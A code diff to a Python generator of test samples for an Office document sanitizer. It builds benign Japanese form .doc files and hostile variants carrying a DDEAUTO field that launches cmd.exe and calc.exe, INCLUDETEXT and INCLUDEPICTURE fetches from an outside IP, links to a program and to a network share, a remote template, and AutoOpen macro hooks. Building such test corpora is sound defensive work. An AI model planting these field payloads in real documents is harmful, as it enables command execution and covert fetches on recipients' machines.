@@ -203,9 +203,8 @@ def legacy_office(out: Path) -> list[Sample]:
         samples.append(Sample("legacy_office/hostile/ole_object.doc", "sanitized", ["ole.object"]))
 
         shutil.copyfile(conv / "embedded.doc", base / "hostile" / "embedded_document.doc")
-        samples.append(Sample("legacy_office/hostile/embedded_document.doc", "sanitized",
-                              ["ole.object", "ooxml.ole_object"],
-                              note="object written by LibreOffice; survives conversion, removed by the OOXML rebuild"))
+        samples.append(Sample("legacy_office/hostile/embedded_document.doc", "sanitized", ["ole.object"],
+                              note="object written by LibreOffice (ObjectPool and EMBED field); its picture stays"))
 
         xstreams, xstorages = ole_streams(conv / "xls.xls")
         xstreams["Workbook"] = _set_sheet_type(xstreams["Workbook"], 0x01)
@@ -218,6 +217,251 @@ def legacy_office(out: Path) -> list[Sample]:
             samples.append(Sample("legacy_office/hostile/encrypted.doc", "blocked", ["ole.encrypted"],
                                   note="RC4 CryptoAPI; sanitized when the password is given",
                                   password=ENC_PASSWORD))
+    return samples
+
+
+# --- .doc constructs (headers per section, furigana, form fields, fields that fetch or run) --------
+
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+# Every placeholder link is this long so that any field instruction patched over it fits.
+_LONG_URL = "https://www.city.example.lg.jp/" + "p" * 160
+
+
+def _field_runs(paragraph, instr: str, result: str, ffdata: str = "") -> None:
+    """A complex field (begin, instruction, separate, result, end) appended to a paragraph."""
+    p = paragraph._p
+    for xml in (f'<w:r {_W}><w:fldChar w:fldCharType="begin">{ffdata}</w:fldChar></w:r>',
+                f'<w:r {_W}><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>',
+                f'<w:r {_W}><w:fldChar w:fldCharType="separate"/></w:r>',
+                f'<w:r {_W}><w:t xml:space="preserve">{result}</w:t></w:r>',
+                f'<w:r {_W}><w:fldChar w:fldCharType="end"/></w:r>'):
+        from docx.oxml import parse_xml
+
+        p.append(parse_xml(xml))
+
+
+def _ruby(paragraph, base: str, reading: str) -> None:
+    from docx.oxml import parse_xml
+
+    paragraph._p.append(parse_xml(
+        f'<w:r {_W}><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/><w:hps w:val="10"/>'
+        f'<w:hpsRaise w:val="18"/><w:hpsBaseText w:val="21"/><w:lid w:val="ja-JP"/></w:rubyPr>'
+        f'<w:rt><w:r><w:t>{reading}</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>{base}</w:t></w:r></w:rubyBase>'
+        "</w:ruby></w:r>"))
+
+
+def _make_form_docx(path: Path) -> None:
+    """Two sections with first-page and even/odd headers and footers, furigana, a form checkbox, a
+    text form field, a web link, a table and a picture: what a municipal form template holds."""
+    import docx
+    from docx.enum.section import WD_SECTION
+    from docx.enum.text import WD_BREAK
+    from docx.shared import Cm
+
+    d = docx.Document()
+    d.settings.odd_and_even_pages_header_footer = True
+    s1 = d.sections[0]
+    s1.different_first_page_header_footer = True
+    s1.first_page_header.paragraphs[0].text = "様式第一号（表紙）"
+    s1.header.paragraphs[0].text = "住民票の写し等交付申請書（奇数ページ）"
+    s1.even_page_header.paragraphs[0].text = "住民票の写し等交付申請書（偶数ページ）"
+    s1.first_page_footer.paragraphs[0].text = "千代田区役所 区民課"
+    s1.footer.paragraphs[0].text = "奇数ページのフッター"
+    s1.even_page_footer.paragraphs[0].text = "偶数ページのフッター"
+    d.add_heading(JA_TITLE, 1)
+    p = d.add_paragraph("申請者：")
+    _ruby(p, "山田", "やまだ")
+    _ruby(p, "太郎", "たろう")
+    p.add_run("（ふりがなを付けてください）")
+    p = d.add_paragraph("本人確認書類を提示しました ")
+    _field_runs(p, "FORMCHECKBOX", "", '<w:ffData><w:name w:val="Check1"/><w:enabled/><w:calcOnExit w:val="0"/>'
+                '<w:checkBox><w:sizeAuto/><w:default w:val="1"/></w:checkBox></w:ffData>')
+    p = d.add_paragraph("郵送を希望します ")
+    _field_runs(p, "FORMCHECKBOX", "", '<w:ffData><w:name w:val="Check2"/><w:enabled/><w:calcOnExit w:val="0"/>'
+                '<w:checkBox><w:sizeAuto/><w:default w:val="0"/></w:checkBox></w:ffData>')
+    p = d.add_paragraph("詳しくは")
+    _field_runs(p, 'HYPERLINK "https://www.city.example.lg.jp/koseki/"', "区のホームページ")
+    p.add_run("をご覧ください。")
+    t = d.add_table(rows=3, cols=3)
+    t.style = "Table Grid"
+    for r, row in enumerate((("区分", "通数", "手数料"), ("住民票の写し", "２", "600円"), ("印鑑登録証明書", "１", "300円"))):
+        for c, v in enumerate(row):
+            t.cell(r, c).text = v
+    d.add_picture(io.BytesIO(_png(48, 32)), width=Cm(3))
+    for page in range(2, 4):
+        d.paragraphs[-1].add_run().add_break(WD_BREAK.PAGE)
+        d.add_paragraph(f"{page}ページ目：{JA_BODY}")
+    s2 = d.add_section(WD_SECTION.NEW_PAGE)
+    s2.header.is_linked_to_previous = False
+    s2.header.paragraphs[0].text = "第二節のヘッダー（委任状）"
+    s2.first_page_header.is_linked_to_previous = False
+    s2.first_page_header.paragraphs[0].text = "委任状（第二節の最初のページ）"
+    d.add_heading("委任状", 2)
+    d.add_paragraph("私は、上記の者を代理人と定め、住民票の写しの請求及び受領の権限を委任します。")
+    d.save(str(path))
+
+
+def _make_fields_docx(path: Path) -> None:
+    """Paragraphs each holding a long web link (a field the hostile variants rewrite in place) and
+    one link around a picture."""
+    import docx
+    from docx.oxml import parse_xml
+
+    d = docx.Document()
+    d.add_heading(JA_TITLE, 1)
+    for label in ("計算結果", "取り込んだ本文", "ここをクリック", "共有フォルダー"):
+        p = d.add_paragraph(f"{label}：")
+        _field_runs(p, f'HYPERLINK "{_LONG_URL}"', label)
+    d.add_paragraph(JA_BODY)
+    p = d.add_paragraph("ロゴ：")
+    run = d.add_paragraph().add_run()
+    run.add_picture(io.BytesIO(_png(40, 40, (30, 90, 200))))
+    drawing = run._r[-1]
+    run._r.remove(drawing)
+    p._p.append(parse_xml(f'<w:r {_W}><w:fldChar w:fldCharType="begin"/></w:r>'))
+    p._p.append(parse_xml(f'<w:r {_W}><w:instrText xml:space="preserve"> HYPERLINK "{_LONG_URL}" </w:instrText></w:r>'))
+    p._p.append(parse_xml(f'<w:r {_W}><w:fldChar w:fldCharType="separate"/></w:r>'))
+    holder = parse_xml(f"<w:r {_W}/>")
+    holder.append(drawing)
+    p._p.append(holder)
+    p._p.append(parse_xml(f'<w:r {_W}><w:fldChar w:fldCharType="end"/></w:r>'))
+    d.save(str(path))
+
+
+def _doc_parts(data: bytes):
+    """The engine's own .doc walker, used to find where to patch a hostile variant."""
+    import olefile
+
+    from cdr.formats.legacy_office.doc import DocRebuild
+
+    with olefile.OleFileIO(data) as ole:
+        streams = {"/".join(e): ole.openstream(e).read() for e in ole.listdir()}
+        storages = tuple("/".join(e) for e in ole.listdir(streams=False, storages=True))
+    r = DocRebuild(streams)
+    r.check_pairs()
+    r.read_pieces()
+    r.read_fkps()
+    return r, streams, storages
+
+
+def _patch_fields(data: bytes, codes: list[tuple[int, tuple[int, str]]]) -> bytes:
+    """Rewrite the instruction of the n-th main-text field in place (same length, padded) and its
+    cached field type (flt)."""
+    r, streams, storages = _doc_parts(data)
+    fields = [f for f in r.read_fields() if f.plc == "PlcfFldMom"]
+    wd = bytearray(streams["WordDocument"])
+    table = bytearray(streams[r.fib.table_name])
+    fc, lcb = r.fib.pair("PlcfFldMom")
+    n = (lcb - 4) // 6
+    for index, code in codes:
+        f = fields[index]
+        cps, old, _nested, _glued = r.instruction(f)
+        text = f"{code[1]} ".ljust(len(cps))  # no leading space: msodde only sees DDE at the very start
+        if len(text) > len(cps):
+            raise ValueError("field instruction does not fit")
+        for cp, ch in zip(cps, text, strict=True):
+            pos, width = r.byte_of(cp)
+            wd[pos:pos + width] = ch.encode("cp1252" if width == 1 else "utf-16-le")
+        table[fc + 4 * (n + 1) + 2 * f.begin_fld + 1] = code[0]
+    return write_cfb({**streams, "WordDocument": bytes(wd), r.fib.table_name: bytes(table)}, storages)
+
+
+def _append_pairs(data: bytes, pairs: dict[str, bytes], extra: dict[str, bytes] | None = None) -> bytes:
+    """Add table-stream structures (remote template, toolbars, macro names) by appending them to the
+    table stream and pointing their FIB pairs at them."""
+    from cdr.formats.legacy_office.docfib import INDEX
+
+    r, streams, storages = _doc_parts(data)
+    wd = bytearray(streams["WordDocument"])
+    table = bytearray(streams[r.fib.table_name])
+    for name, blob in pairs.items():
+        struct.pack_into("<II", wd, r.fib.rgfclcb_at + 8 * INDEX[name], len(table), len(blob))
+        table += blob
+    return write_cfb({**streams, **(extra or {}), "WordDocument": bytes(wd), r.fib.table_name: bytes(table)},
+                     storages)
+
+
+def _sttb(values: list[str]) -> bytes:
+    return b"\xff\xff" + struct.pack("<HH", len(values), 0) + b"".join(
+        struct.pack("<H", len(v)) + v.encode("utf-16-le") for v in values)
+
+
+def _form_macro(data: bytes, entry: str) -> bytes:
+    """Give the first form field an entry macro: its FFData is rewritten at the end of the Data
+    stream and the field's picture location points there."""
+    from cdr.formats.legacy_office.doc import SPRM_FDATA, SPRM_PIC_LOCATION
+
+    r, streams, storages = _doc_parts(data)
+    fields = r.read_fields()
+    form = next(f for f in fields if "FORMCHECKBOX" in r.instruction(f)[1])
+    ch = next(c for c in map(r.chpx_of_cp, range(form.begin, form.sep or form.end))
+              if c is not None and c.value(r.wd, SPRM_FDATA))
+    wd = bytearray(streams["WordDocument"])
+    data_stream = bytearray(streams["Data"])
+    off = ch.value(r.wd, SPRM_PIC_LOCATION)
+    lcb = struct.unpack_from("<I", data_stream, off)[0]
+    block = bytes(data_stream[off:off + lcb])
+    head, ff = block[:0x44], block[0x44:]
+    pos = 10
+    for step in range(5):  # name, wDef (a checkbox), format, help, status: skip to the macros
+        pos += 2 if step == 1 else 4 + 2 * struct.unpack_from("<H", ff, pos)[0]
+    xst = struct.pack("<H", len(entry)) + entry.encode("utf-16-le") + b"\0\0"
+    new_ff = ff[:pos] + xst + ff[pos + 4:]
+    new = struct.pack("<I", 0x44 + len(new_ff)) + head[4:] + new_ff
+    at = len(data_stream)
+    data_stream += new
+    wd[ch.props[SPRM_PIC_LOCATION][0]:ch.props[SPRM_PIC_LOCATION][0] + 4] = struct.pack("<I", at)
+    return write_cfb({**streams, "WordDocument": bytes(wd), "Data": bytes(data_stream)}, storages)
+
+
+@generator("legacy_office")
+def legacy_doc_samples(out: Path) -> list[Sample]:
+    """.doc files carrying each construct the native .doc rebuild keeps or removes."""
+    base = out / "legacy_office"
+    (base / "benign").mkdir(parents=True, exist_ok=True)
+    (base / "hostile").mkdir(parents=True, exist_ok=True)
+    samples: list[Sample] = []
+    with tempfile.TemporaryDirectory(prefix="cdr-doc-samples-") as tmp:
+        t = Path(tmp)
+        _make_form_docx(t / "form.docx")
+        _make_fields_docx(t / "fields.docx")
+        _soffice(t / "profile", "--convert-to", "doc:MS Word 97", "--outdir", str(t), str(t / "form.docx"),
+                 str(t / "fields.docx"))
+        form = (t / "form.doc").read_bytes()
+        fields = (t / "fields.doc").read_bytes()
+    (base / "benign" / "交付申請様式.doc").write_bytes(form)
+    samples.append(Sample("legacy_office/benign/交付申請様式.doc", "clean", [],
+                          note="sections with first-page and even/odd headers, furigana, form checkboxes, web link"))
+    (base / "benign" / "リンク付き.doc").write_bytes(fields)
+    samples.append(Sample("legacy_office/benign/リンク付き.doc", "clean", [], note="web links, one around a picture"))
+
+    def put(name: str, data: bytes, threats: list[str], note: str) -> None:
+        (base / "hostile" / name).write_bytes(data)
+        samples.append(Sample(f"legacy_office/hostile/{name}", "sanitized", threats, note=note))
+
+    put("dde_fields.doc", _patch_fields(fields, [
+        (0, (0x2E, 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
+        (1, (0x2D, 'DDE "C:\\\\Program Files\\\\Microsoft Office\\\\MSWORD.EXE" "x" "y"'))]),
+        ["ole.dde"], "DDEAUTO and DDE fields; results kept")
+    put("include_fields.doc", _patch_fields(fields, [
+        (1, (0x44, 'INCLUDETEXT "\\\\\\\\203.0.113.9\\\\share\\\\body.docx"')),
+        (4, (0x43, 'INCLUDEPICTURE "http://203.0.113.9/track.png"'))]),
+        ["ole.field"], "INCLUDETEXT from a share, INCLUDEPICTURE from the web (picture result kept)")
+    put("macrobutton.doc", _patch_fields(fields, [(2, (0x33, "MACROBUTTON AutoOpen ここをクリック"))]),
+        ["ole.macro_reference"], "MACROBUTTON field")
+    put("file_hyperlink.doc", _patch_fields(fields, [
+        (2, (0x58, 'HYPERLINK "file:///C:/Windows/System32/calc.exe"')),
+        (3, (0x58, 'HYPERLINK "\\\\\\\\203.0.113.9\\\\share\\\\a.lnk"'))]),
+        ["ole.hyperlink"], "links to a program and to a share; text kept")
+    put("remote_template.doc", _append_pairs(form, {"SttbfAssoc": _sttb(
+        ["", "\\\\203.0.113.9\\templates\\normal.dotm", "交付申請書", "", "", "", "山田太郎", "山田太郎"]
+        + [""] * 10)}), ["ole.remote_template"], "attached template on a share; author in the associated strings")
+    put("toolbar_macros.doc", _append_pairs(form, {"Cmds": b"\x0c\x00" + b"\x01" * 30,
+                                                   "SttbfMcr": _sttb(["Project.Module1.AutoOpen"])},
+                                            _vba_streams("Macros")),
+        ["ole.vba", "ole.customization"], "VBA project, macro names and toolbar customisation")
+    put("formfield_macro.doc", _form_macro(form, "AutoOpen"), ["ole.macro_reference"],
+        "form checkbox running a macro on entry")
     return samples
 
 
